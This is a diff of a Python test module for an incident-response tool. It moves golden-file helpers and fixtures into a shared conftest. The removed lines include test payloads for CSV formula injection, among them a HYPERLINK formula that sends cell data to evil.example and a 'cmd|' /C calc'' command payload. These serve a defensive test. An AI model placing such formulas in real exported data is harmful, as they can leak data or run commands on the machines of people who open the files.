@@ -7,12 +7,9 @@ at ingest time, so goldens hold them relative to the repository.
 
 from __future__ import annotations
 
-import copy
 import csv
-import gzip
 import io
 import json
-import os
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -27,62 +24,20 @@ from ir import timeline
 from ir.case import Case
 from ir.cli import app
 from ir.trace import Trace
+from tests.conftest import (
+    HOSTILE_AGENTS,
+    ROOT,
+    SAMPLE,
+    check_golden,
+    hostile_file,
+    open_sample,
+    relative,
+)
 
-REPO = Path(__file__).resolve().parents[1]
-SAMPLE = REPO / "sample_logs"
-GOLDEN = Path(__file__).parent / "golden"
-UPDATE = os.environ.get("IR_UPDATE_GOLDEN") == "1"
-ROOT = "aws_access_key:AKIAB4QWZLKKE2GRC3WO"
 # Timesketch's CSV/JSONL importer (timesketch/lib/utils.py): these three are mandatory;
 # these columns are scrubbed on import, and `tag` is parsed as a list.
 TIMESKETCH_MANDATORY = {"message", "datetime", "timestamp_desc"}
 TIMESKETCH_SCRUBBED = {"_id", "_type", "_index", "_source", "__ts_timeline_id"}
-HOSTILE_AGENTS = (
-    '=HYPERLINK("http://evil.example/?d="&A1,"invoice")',
-    "+SUM(1,2)",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "\tTAB=1+1",
-    "\r=1+1",
-)
-
-
-def open_sample(path: Path) -> Case:
-    """A case holding the sample incident (sample_logs/, its .irignore skips the answers)."""
-    case = ir.open_case(path)
-    case.ingest(SAMPLE)
-    return case
-
-
-def relative(text: str) -> str:
-    """Golden-ready text: evidence paths relative to the repository."""
-    return text.replace(str(REPO) + "/", "")
-
-
-def check_golden(name: str, text: str) -> None:
-    path = GOLDEN / name
-    if UPDATE:
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_bytes(text.encode())
-    assert path.exists(), f"{path} missing: run with IR_UPDATE_GOLDEN=1"
-    assert text == path.read_bytes().decode(), f"{name} differs from its golden file"
-
-
-def hostile_file(folder: Path) -> Path:
-    """A CloudTrail file (real shape, copied from the sample) whose user agents are formulas."""
-    source = next(SAMPLE.glob("logs/aws_cloudtrail/**/*_us-east-1_20260904T1200Z_*.json.gz"))
-    records = json.loads(gzip.decompress(source.read_bytes()))["Records"]
-    template = next(r for r in records if r["eventName"] == "ListBuckets")
-    hostile = []
-    for number, agent in enumerate(HOSTILE_AGENTS):
-        record = copy.deepcopy(template)
-        record["userAgent"] = agent
-        record["eventID"] = f"00000000-0000-4000-8000-{number:012d}"
-        record["eventTime"] = f"2026-09-04T15:2{number}:00Z"
-        hostile.append(record)
-    path = folder / "hostile.json"
-    path.write_text(json.dumps({"Records": hostile}))
-    return path
 
 
 @pytest.fixture(scope="module")
